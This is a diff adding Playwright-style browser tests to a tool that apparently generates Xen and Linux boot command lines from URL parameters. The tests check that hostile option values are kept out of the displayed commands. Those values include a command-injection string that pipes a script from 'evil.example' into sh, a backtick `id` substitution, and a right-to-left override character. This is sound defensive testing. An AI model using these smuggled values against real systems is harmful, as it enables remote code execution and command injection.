@@ -35,6 +35,30 @@ test("a link that cannot be read says so at the top, and leads to its field", as
   await page.close();
 });
 
+test("a link that wants to harm puts nothing into a command, hides nothing and fits a phone", async () => {
+  const options = ["2G;curl+evil.example|sh", "2G%60id%60", "%E2%80%AEM4201%3Axam", "8G%2B25%25%3Amin%3D-64T%25%3Amin%3A-1P", "A".repeat(4000)];
+  for (const option of options) {
+    const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${option}&xen=4.17&linux=6.12`, { width: 320 });
+    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320, option);
+    const codes = await page.$$eval(".command code", (all) => all.map((e) => e.textContent));
+    assert.ok(codes.length > 5, option);
+    assert.deepEqual(codes.filter((c) => /curl|`|\|sh|M4201|[^\n -~]/.test(c)), [], option);
+    assert.doesNotMatch(await page.$eval("main", (e) => e.textContent), /\u202e|A{200}/, option);
+    assert.deepEqual(wrong, []);
+    await page.close();
+  }
+});
+
+test("an option of very many letters has an error beside its field and stays there", async () => {
+  const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${"A".repeat(21_000)}`);
+  assert.match(await text(page, "#unread"), /too long for this field/);
+  assert.equal(await page.$eval("#dom0-mem", (e) => e.value.length), 21_000);
+  await type(page, "dom0-mem", "2G");
+  assert.match(await text(page, "p.machine"), /dom0_mem=2G,/);
+  assert.deepEqual(wrong, []);
+  await page.close();
+});
+
 test("while a field is in error every result says of which machine it is", async () => {
   const { page, wrong } = await open(browser, site.url);
   const marks = () => page.$$eval("[data-stale-mark]", (all) => all.filter((e) => e.checkVisibility()).map((e) => e.textContent));
